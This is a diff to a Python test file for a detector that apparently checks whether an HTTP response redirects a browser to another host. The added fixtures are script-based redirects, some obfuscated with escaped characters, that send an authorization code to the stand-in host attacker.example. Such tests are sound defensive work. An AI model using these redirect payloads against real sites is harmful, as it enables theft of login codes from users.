@@ -72,8 +72,10 @@ def test_a_page_that_asks_who_somebody_is_does_not_tell_whether_it_was_followed(
     [
         b'<form method="post" action="https://attacker.example/cb"><input name=code></form>',
         b'<meta http-equiv="refresh" content="0; url=https://attacker.example/cb?code=c">',
+        b'<script>window.location.href = "https:\\/\\/attacker.example\\x2fcb?code=c"</script>',
+        b"<script>location.replace('https://attacker.example/cb\\u0023code=c');</script>",
     ],
-    ids=["form", "refresh"],
+    ids=["form", "refresh", "script", "script that replaces"],
 )
 def test_a_page_that_leads_there_sends_the_browser_there(body: bytes) -> None:
     page = Response(200, (("Content-Type", "text/html"),), body)
@@ -94,8 +96,9 @@ ELSEWHERE = "https://attacker.example/cb"
         Response(200, (("Refresh", f"1; url={ELSEWHERE}"),)),
         Response(200, (HTML,), f'<meta http-equiv=Refresh content="0;{ELSEWHERE}">'.encode()),
         Response(200, (HTML,), f'<form action="{ELSEWHERE}" method=post></form>'.encode()),
+        Response(200, (HTML,), f'<script>location="{ELSEWHERE}"</script>'.encode()),
     ],
-    ids=["redirect", "refresh-header", "refresh-of-a-page", "form"],
+    ids=["redirect", "refresh-header", "refresh-of-a-page", "form", "script"],
 )
 def test_a_browser_is_sent_on_by_redirects_and_by_pages(response: Response) -> None:
     assert sent_on(asked(ELSEWHERE, response), "attacker.example") == ["step"]
@@ -108,8 +111,9 @@ def test_a_browser_is_sent_on_by_redirects_and_by_pages(response: Response) -> N
         Response(200, (("Refresh", f"1; url=/login?return_to={ELSEWHERE}"),)),
         Response(200, (HTML,), f'<form action="/login?return_to={ELSEWHERE}"></form>'.encode()),
         Response(200, (HTML,), f'<input type=hidden name=return_to value="{ELSEWHERE}">'.encode()),
+        Response(200, (HTML,), f'<script>asked = {{location: "{ELSEWHERE}"}}</script>'.encode()),
     ],
-    ids=["redirect", "refresh", "form", "field"],
+    ids=["redirect", "refresh", "form", "field", "script"],
 )
 def test_an_address_that_is_passed_along_sends_nobody_there(response: Response) -> None:
     assert not sent_on(asked(ELSEWHERE, response), "attacker.example")
